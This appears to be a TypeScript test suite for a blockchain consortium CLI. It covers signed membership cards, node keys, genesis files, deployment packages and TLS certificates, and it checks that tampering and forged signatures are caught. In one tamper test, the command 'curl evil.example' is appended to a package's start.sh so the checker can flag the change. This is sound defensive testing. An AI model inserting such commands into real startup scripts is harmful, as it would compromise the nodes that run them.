import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { expect } from "chai";
import { SigningKey } from "ethers";
import { ANSWERS } from "../../../src/cli/json/answers.js";
import { parseEnode } from "../../../src/network/parse-enode.js";
import { openssl, openssled } from "../../helpers/openssl.js";
import { AGENCIES, foundStar } from "../../helpers/star-agencies.js";
import type { Outcome } from "../../../tools/shared/processes.js";
import type { Chapter } from "./chapter.js";

/** Four agencies, each in a directory of its own with its own keys only, come to three groups. */
export const star: Chapter = (network) => {
  const inside = (...names: string[]): string => path.join(network().directory, "star", ...names);
  const environment = {
    PORTCULLIS_NETWORK: undefined,
    PORTCULLIS_CONFIG: undefined,
    PORTCULLIS_PASSWORD: "correct-horse",
  };
  const run = (agency: string, line: string): Promise<Outcome> =>
    network().run(line, undefined, { directory: inside(agency), environment });
  const done = async (agency: string, line: string): Promise<string> => {
    const { code, stdout, stderr } = await run(agency, line);
    expect(code, `${line}: ${stdout}${stderr}`).to.equal(0);
    return stdout;
  };
  /** Whatever an agency gives to others. */
  const hand = (from: string, file: string, ...to: readonly string[]): void => {
    for (const each of to) cpSync(inside(from, file), inside(each, file));
  };
  const textOf = (...names: string[]): string => readFileSync(inside(...names), "utf8");

  it("consortium invite: what is proposed to whom, and all mistakes of an invitation", async () => {
    foundStar(inside());
    const shown = await done("A", "consortium invite invitation.yaml");
    expect(shown)
      .to.match(/^group1 {2}10001 +istanbul +1 s +700,000,000 +A, B$/m)
      .and.to.match(/^to compare {2}(?:[\da-f]{4} ){7}[\da-f]{4}$/m);
    const { error } = ANSWERS["consortium invite"].safeParse(
      JSON.parse(await done("A", "consortium invite invitation.yaml --json")),
    );
    expect(error).to.equal(undefined);
    const broken = textOf("A/invitation.yaml").replace("10002", "10001").replace("[A, D]", "[A, E, A]");
    writeFileSync(inside("A/broken.yaml"), broken);
    const { code, stderr } = await run("A", "consortium invite broken.yaml");
    expect(code).to.equal(1);
    expect(
      stderr
        .replaceAll(/:\d+:\d+/g, "")
        .split("\n")
        .slice(0, 5),
    ).to.deep.equal([
      "broken.yaml has 4 mistakes:",
      "  broken.yaml  D is invited to no group. Add it to a group's members, or remove it.",
      "  broken.yaml  The group group1 has this chain id. Give group2 another one.",
      "  broken.yaml  There is no agency E. Name one of these: A, B, C, D.",
      "  broken.yaml  It names the agency A twice. Remove one of the two.",
    ]);
    hand("A", "invitation.yaml", "B", "C", "D");
  });

  it("consortium keys: a key of each process for geth, which stays, and which only its owner reads", async () => {
    const line = "consortium keys invitation.yaml A.yaml --json";
    const made = JSON.parse(await done("A", line)) as { file: string; enodeId: string }[];
    expect(ANSWERS["consortium keys"].safeParse(made).error).to.equal(undefined);
    expect(made.map(({ file }) => file)).to.deep.equal([1, 2, 3].map((each) => `nodes/node0/group${each}/nodekey`));
    for (const { file, enodeId } of made) {
      const key = textOf("A", file);
      expect(key).to.match(/^[\da-f]{64}$/);
      expect(new SigningKey(`0x${key}`).publicKey.slice(4)).to.equal(enodeId);
      expect(statSync(inside("A", file)).mode & 0o777).to.equal(0o600);
    }
    expect(JSON.parse(await done("A", line))).to.deep.equal(made);
    const other = await run("A", "consortium keys invitation.yaml A.yaml --node node9");
    expect([other.code, other.stderr]).to.deep.equal([1, "A.yaml has no node node9.\n  Name one of these: node0.\n"]);
  });

  it("consortium answer: a card without anything secret, not without keys, and not over another one", async () => {
    const line = "consortium answer invitation.yaml B.yaml --key admin.key";
    const early = await run("B", line);
    expect([early.code, early.stderr.split("\n")[0]]).to.deep.equal([
      1,
      "There is no key in nodes/node1/group1/nodekey.",
    ]);
    await done("B", "consortium keys invitation.yaml B.yaml");
    expect(await done("B", line)).to.equal("B.card.json\n");
    const [card, key] = [textOf("B/B.card.json"), textOf("B/nodes/node1/group1/nodekey")];
    expect(card)
      .to.include(new SigningKey(`0x${key}`).publicKey.slice(4))
      .and.to.not.include(key);
    const again = await run("B", line);
    expect([again.code, textOf("B/B.card.json")]).to.deep.equal([1, card]);
    const stranger = await run("B", "consortium answer invitation.yaml B.yaml --key ../C/admin.key --out other.json");
    expect([stranger.code, existsSync(inside("B/other.json"))]).to.deep.equal([1, false]);
    expect(stranger.stderr).to.match(/^The others would refuse the card of B:\n {2}The card of B is signed by none of/);
    writeFileSync(inside("B/nodes/node1/group1/nodekey"), "no key");
    const spoilt = await run("B", "consortium answer invitation.yaml B.yaml --key admin.key --out other.json");
    expect(spoilt.stderr).to.match(/^nodes\/node1\/group1\/nodekey holds no key of a node/);
    writeFileSync(inside("B/nodes/node1/group1/nodekey"), key);
  });

  it("consortium gather: who is missing, what was changed, and one consortium for all", async () => {
    for (const agency of ["A", "C", "D"]) {
      await done(agency, `consortium keys invitation.yaml ${agency}.yaml`);
      await done(agency, `consortium answer invitation.yaml ${agency}.yaml --key admin.key`);
    }
    hand("B", "B.card.json", "A");
    const early = await run("A", "consortium gather invitation.yaml A.card.json B.card.json");
    expect([early.code, existsSync(inside("A/consortium.yaml"))]).to.deep.equal([1, false]);
    expect(early.stdout).to.match(/^ {2}✗ C has not answered; it is invited to group2\.$/m);
    hand("C", "C.card.json", "A");
    hand("D", "D.card.json", "A");
    const cards = AGENCIES.map((agency) => `${agency}.card.json`);
    const honest = textOf("A/D.card.json");
    writeFileSync(inside("A/D.card.json"), honest.replace('"127.0.0.1"', '"10.6.6.6"'));
    const altered = await run("A", `consortium gather invitation.yaml ${cards.join(" ")}`);
    expect([altered.code, existsSync(inside("A/consortium.yaml"))]).to.deep.equal([1, false]);
    expect(altered.stdout).to.match(/^ {2}✗ D\.card\.json was changed after it was signed for D\.$/m);
    writeFileSync(inside("A/D.card.json"), honest);

    const shown = await done("A", `consortium gather invitation.yaml ${cards.join(" ")}`);
    expect(shown).to.match(/^genesis of group1 {4}(?:[\da-f]{4} ){7}[\da-f]{4}$/m);
    const text = textOf("A/consortium.yaml");
    rmSync(inside("A/consortium.yaml"));
    const line = `consortium gather invitation.yaml ${cards.toReversed().join(" ")} --json`;
    const asJson = JSON.parse(await done("A", line)) as { fileHash: string };
    expect(ANSWERS["consortium gather"].safeParse(asJson).error).to.equal(undefined);
    expect(textOf("A/consortium.yaml")).to.equal(text);
    expect(asJson.fileHash).to.equal(`0x${createHash("sha256").update(text).digest("hex")}`);
  });

  it("consortium gather: the same genesis from the cards of a group's members", async () => {
    hand("A", "A.card.json", "B");
    await done("B", "consortium gather invitation.yaml B.card.json A.card.json --group group1");
    for (const agency of ["A", "B"]) await done(agency, "consortium genesis consortium.yaml group1 --out genesis.json");
    expect(textOf("B/genesis.json")).to.equal(textOf("A/genesis.json"));
    expect(textOf("B/consortium.yaml")).to.not.include("group2");
  });

  it("consortium package: a folder for each process, the same each time, with nothing secret", async () => {
    const folders = (await done("A", "consortium package consortium.yaml A")).trimEnd().split("\n");
    expect(folders).to.deep.equal([1, 2, 3].map((each) => `packages/node0/group${each}`));
    for (const [index, folder] of folders.entries()) {
      const names = readdirSync(inside("A", folder)).sort();
      expect(names).to.deep.equal([
        "README.txt",
        "genesis.json",
        "manifest.json",
        "permissioned-nodes.json",
        `portcullis-node0-group${index + 1}.service`,
        "start.sh",
        "static-nodes.json",
      ]);
      const keys = [1, 2, 3].map((each) => textOf(`A/nodes/node0/group${each}/nodekey`));
      for (const name of names) for (const key of keys) expect(textOf("A", folder, name)).to.not.include(key);
    }
    expect(textOf("A/packages/node0/group1/genesis.json")).to.equal(textOf("A/genesis.json"));
    await done("A", "consortium package consortium.yaml A");
    const unknown = await run("A", "consortium package consortium.yaml Z");
    expect(unknown.stderr).to.equal("consortium.yaml has no agency Z.\n  Name one of these: A, B, C, D.\n");
    const other = await run("B", "consortium package consortium.yaml B --config ../../permission-config.json");
    expect(other.stderr).to.match(
      /permission-config\.json is of chain \d+, which is no group of the consortium file\.$/m,
    );
  });

  it("consortium check-package: what was changed, missing or added, and whose key and genesis it is for", async () => {
    const folder = "packages/node0/group1";
    const check = (more = ""): Promise<Outcome> => run("A", `consortium check-package ${folder}${more}`);
    const own = " --consortium consortium.yaml --nodekey nodes/node0/group1/nodekey";
    const good = await check(own);
    expect([good.code, good.stderr]).to.deep.equal([0, ""]);
    expect(good.stdout)
      .to.match(/✓ All 6 files are as they were made for node0 of A in group1\.$/m)
      .and.to.match(/✓ The genesis is that of the consortium file: (?:[\da-f]{4} ){7}[\da-f]{4}\.$/m)
      .and.to.match(/✓ The key is that of node0 in group1\.$/m);
    const otherKey = await check(" --nodekey nodes/node0/group2/nodekey");
    expect([otherKey.code, otherKey.stdout.includes("✗ The key is not that of node0 in group1.")]).to.deep.equal([
      1,
      true,
    ]);

    const script = textOf("A", folder, "start.sh");
    writeFileSync(inside("A", folder, "start.sh"), `${script}curl evil.example\n`);
    rmSync(inside("A", folder, "static-nodes.json"));
    writeFileSync(inside("A", folder, "nodekey"), "a key that does not belong here");
    const bad = await check(" --json");
    const [section] = ANSWERS["consortium check-package"].parse(JSON.parse(bad.stdout));
    expect(bad.code).to.equal(1);
    expect(section?.findings.map(({ what }) => what)).to.deep.equal([
      "static-nodes.json is missing.",
      "start.sh was changed.",
      "nodekey was added.",
    ]);
    const kept = await run("A", "consortium package consortium.yaml A");
    expect([kept.code, textOf("A", folder, "nodekey")]).to.deep.equal([1, "a key that does not belong here"]);
    expect(kept.stderr).to.match(/packages already exists, with different content\.$/m);
    rmSync(inside("A/packages"), { recursive: true });
    const absent = await check();
    expect([absent.code, absent.stdout]).to.deep.equal([1, ""]);
    await done("A", "consortium package consortium.yaml A");
  });

  it("consortium check-package: a genesis that is none of the consortium file, and in what it differs", async () => {
    const other = textOf("A/consortium.yaml").replace("chainId: 10001", "chainId: 10009");
    writeFileSync(inside("A/other.yaml"), other);
    const line = "consortium check-package packages/node0/group1 --consortium other.yaml";
    const { code, stdout } = await run("A", line);
    expect(code).to.equal(1);
    expect(stdout)
      .to.match(/✗ The genesis is not the one that the consortium file makes for group1\.$/m)
      .and.to.match(/✗ config\.chainid is 10001 in the package's, and 10009 in the consortium file's\.$/m);
  });

  it("consortium compare: in what two genesis files differ", async () => {
    const files = ["packages/node0/group1/genesis.json", "packages/node0/group2/genesis.json"];
    const { code, stdout } = await run("A", `consortium compare ${files.join(" ")}`);
    expect(code).to.equal(1);
    expect(stdout)
      .to.match(/✗ Validators only in /)
      .and.to.match(/✗ config\.chainid is 10001 in /);
    await done("A", `consortium compare ${files[0] ?? ""} genesis.json`);
    const none = await run("A", "consortium compare genesis.json consortium.yaml");
    expect(none.stderr.split("\n")[0]).to.equal("consortium.yaml is no file that can be read.");
  });

  it("consortium package: with the node's certificate for TLS, which OpenSSL verifies, and not its key", async () => {
    const issuer = "--issuer A-tls.crt --key A-tls.key";
    for (const [line, host] of [
      ["cert root A --curve P-256 --out A-tls.crt --name A-TLS", ""],
      ["cert request A --role node --name node0 --host", " 127.0.0.1"],
      [`cert issue A-node0.csr ${issuer} --for tls --yes`, ""],
      ["cert request A --role node --name other --host", " 10.0.0.7"],
      [`cert issue A-other.csr ${issuer} --for tls --yes`, ""],
    ] as const)
      await done("A", `${line}${host}`);
    await done("A", "consortium package consortium.yaml A --tls A-node0.crt");
    const folder = "packages/node0/group2";
    const verified = await openssl(inside("A"), `verify -CAfile A-tls.crt -verify_ip 127.0.0.1 ${folder}/tls.crt`);
    expect(verified.said).to.equal(`${folder}/tls.crt: OK\n`);
    const good = await done("A", `consortium check-package ${folder} --tls-key A-node0.key`);
    expect(good).to.match(/✓ tls\.crt is the certificate of O=A, OU=node, CN=node0, for 127\.0\.0\.1\.$/m);
    const otherKey = await run("A", `consortium check-package ${folder} --tls-key A-other.key`);
    expect(otherKey.stdout).to.match(/✗ The key for TLS is not that of the certificate in tls\.crt\.$/m);
    const otherNode = await run("A", "consortium package consortium.yaml A --tls A-other.crt");
    expect([otherNode.code, otherNode.stderr.split("\n")[0]]).to.deep.equal([
      1,
      "The certificate in A-other.crt is for 10.0.0.7, and the nodes are at 127.0.0.1.",
    ]);
  });

  it("consortium invite-agency, admit: E joins group1, whose genesis stays, and each is told what to type", async () => {
    const invited = await done("B", "consortium invite-agency consortium.yaml E --group group1");
    expect(invited).to.match(/^group1 {15}(?:[\da-f]{4} ){7}[\da-f]{4}$/m);
    hand("B", "E.invitation.json", "A", "E");
    hand("B", "consortium.yaml", "E");
    await done("E", "consortium keys E.invitation.json E.yaml");
    await done("E", "consortium answer E.invitation.json E.yaml --key admin.key");
    const early = await run("E", "consortium gather E.invitation.json E.card.json");
    expect([early.code, early.stderr.split("\n")[0]]).to.deep.equal([
      1,
      "E.invitation.json invites to groups that there are already, for which no cards are gathered.",
    ]);
    hand("E", "E.card.json", "A", "B");
    const line = "consortium admit consortium.yaml E.invitation.json E.card.json";
    const shown = await done("B", line);
    const { enodeId } = parseEnode(/enode:\S+(?=")/.exec(shown)?.[0] ?? "");
    expect(enodeId).to.equal(new SigningKey(`0x${textOf("E/nodes/node4/group1/nodekey")}`).publicKey.slice(4));
    expect(shown)
      .to.match(/1\. group1: a network admin\n {5}portcullis org propose E --node "enode:\S+" --admin 0x/)
      .and.to.match(/2\. group1: other network admins, until it has passed\n {5}portcullis proposal approve ID/)
      .and.to.match(
        /5\. group1: more than half [^\n]+\n {5}portcullis validator add "enode:\S+" --network DIRECTORY\/geth\.ipc/,
      );
    const asJson = JSON.parse(await done("E", `${line} --json`)) as { file: string };
    expect(ANSWERS["consortium admit"].safeParse(asJson).error).to.equal(undefined);
    expect(textOf("E", asJson.file)).to.equal(textOf("B/consortium-E.yaml"));

    await done("E", "consortium package consortium-E.yaml E");
    const folder = "packages/node4/group1";
    expect(textOf("E", folder, "genesis.json")).to.equal(textOf("A/genesis.json"));
    expect(JSON.parse(textOf("E", folder, "static-nodes.json"))).to.have.length(3);
    expect(await done("A", line)).to.match(
      /✓ consortium-E\.yaml is complete: agencies 5, groups 3, nodes 5, processes 7\.$/m,
    );
  });

  it("consortium admit: refuses a card that was changed, and an invitation to another group", async () => {
    const line = "consortium admit consortium.yaml E.invitation.json E.card.json --out none.yaml";
    writeFileSync(inside("B/E.card.json"), textOf("E/E.card.json").replace("30304", "30305"));
    const changed = await run("B", line);
    expect([changed.code, existsSync(inside("B/none.yaml"))]).to.deep.equal([1, false]);
    expect(changed.stdout).to.match(/✗ E\.card\.json was changed after it was signed for E\.$/m);
    hand("E", "E.card.json", "C");
    hand("E", "E.invitation.json", "C");
    cpSync(inside("A/other.yaml"), inside("C/consortium.yaml"));
    const other = await run("C", line);
    expect([other.code, existsSync(inside("C/none.yaml"))]).to.deep.equal([1, false]);
    expect(other.stdout).to.match(/✗ The group group1 of the invitation is none of this consortium file/);
    const founding = await run("A", "consortium admit consortium.yaml invitation.yaml B.card.json");
    expect(founding.stderr.split("\n")[0]).to.equal(
      "invitation.yaml invites to found groups, and nobody is admitted to those.",
    );
  });

  it("consortium answer, gather: with certificates of one root for all, and OpenSSL verifies the card", async () => {
    const ours = inside("certified");
    mkdirSync(ours);
    const req = "req -x509 -new -sha256 -days 30 -nodes -newkey ec -pkeyopt ec_paramgen_curve";
    await openssled(ours, `${req}:secp256k1 -keyout root.key -out root.crt -subj /O=STAR/OU=CA/CN=root`);
    await openssled(ours, `${req}:P-256 -keyout stranger.key -out stranger.crt -subj /O=STAR/OU=CA/CN=root`);
    for (const [agency, curve, issuer] of [
      ["A", "secp256k1", "root"],
      ["B", "P-256", "root"],
      ["C", "P-256", "stranger"],
    ] as const) {
      await openssled(
        ours,
        `req -new -nodes -newkey ec -pkeyopt ec_paramgen_curve:${curve} -keyout ${agency}.key -out ${agency}.csr -subj /O=${agency}/OU=admin/CN=carol -addext keyUsage=critical,digitalSignature`,
        `x509 -req -in ${agency}.csr -CA ${issuer}.crt -CAkey ${issuer}.key -CAcreateserial -sha256 -days 20 -copy_extensions copy -out ${agency}.crt`,
      );
    }
    const { said } = await openssl(ours, "x509 -in root.crt -noout -fingerprint -sha256");
    const [, fingerprint = ""] = /=([\dA-F:]+)/.exec(said) ?? [];
    const invitation = textOf("A/invitation.yaml").replaceAll(/name: ([A-D])$/gm, `$&\n    root: "${fingerprint}"`);
    for (const agency of ["A", "B", "C"]) writeFileSync(inside(agency, "certified.yaml"), invitation);
    const answer = (agency: string, more: string): Promise<Outcome> =>
      run(agency, `consortium answer certified.yaml ${agency}.yaml --out certified.json ${more}`);
    for (const agency of ["A", "B"]) {
      const own = `../certified/${agency}`;
      const { code, stderr } = await answer(agency, `--key ${own}.key --certificate ${own}.crt ../certified/root.crt`);
      expect(code, stderr).to.equal(0);
    }
    const gathered = await run(
      "A",
      "consortium gather certified.yaml certified.json ../B/certified.json --group group1 --out certified-star.yaml",
    );
    expect([gathered.code, gathered.stderr], gathered.stdout).to.deep.equal([0, ""]);
    expect(gathered.stdout).to.match(/✓ The root O=STAR, OU=CA, CN=root vouches for O=B, OU=admin, CN=carol\.$/m);

    const otherRoot = await answer(
      "C",
      "--key ../certified/C.key --certificate ../certified/C.crt ../certified/stranger.crt",
    );
    expect(otherRoot.stderr).to.match(
      /CN=carol, which has signed the card of C, is not of the root with the fingerprint/,
    );
    const forged = await answer("C", "--key ../certified/C.key --certificate ../certified/C.crt ../certified/root.crt");
    expect(forged.stderr).to.match(/O=STAR, OU=CA, CN=root has not signed O=C, OU=admin, CN=carol/);
    const ofB = await answer("C", "--key ../certified/B.key --certificate ../certified/B.crt ../certified/root.crt");
    expect(ofB.stderr).to.match(/O=B, OU=admin, CN=carol is of the organisation B, not of C\./);
    const otherKey = await answer(
      "C",
      "--key ../certified/B.key --certificate ../certified/C.crt ../certified/root.crt",
    );
    expect(otherKey.stderr).to.match(/^The key is not that of O=C, OU=admin, CN=carol in /);
    expect(existsSync(inside("C/certified.json"))).to.equal(false);

    const { signature, ...signed } = JSON.parse(textOf("B/certified.json")) as Record<string, unknown>;
    writeFileSync(path.join(ours, "signed"), inOneOrder(signed));
    writeFileSync(path.join(ours, "signature"), Buffer.from(String(signature), "hex"));
    await openssled(ours, "x509 -in B.crt -noout -pubkey -out B.pub");
    const verified = await openssl(ours, "dgst -sha256 -verify B.pub -signature signature signed");
    expect(verified.said).to.equal("Verified OK\n");
  });
};

/** JSON in the form of RFC 8785, of what holds no numbers with fractions and no letters beyond ASCII. */
function inOneOrder(value: unknown): string {
  return JSON.stringify(value, (_, each: unknown) =>
    typeof each === "object" && each !== null && !Array.isArray(each)
      ? Object.fromEntries(Object.entries(each).sort(([one], [other]) => (one < other ? -1 : 1)))
      : each,
  );
}
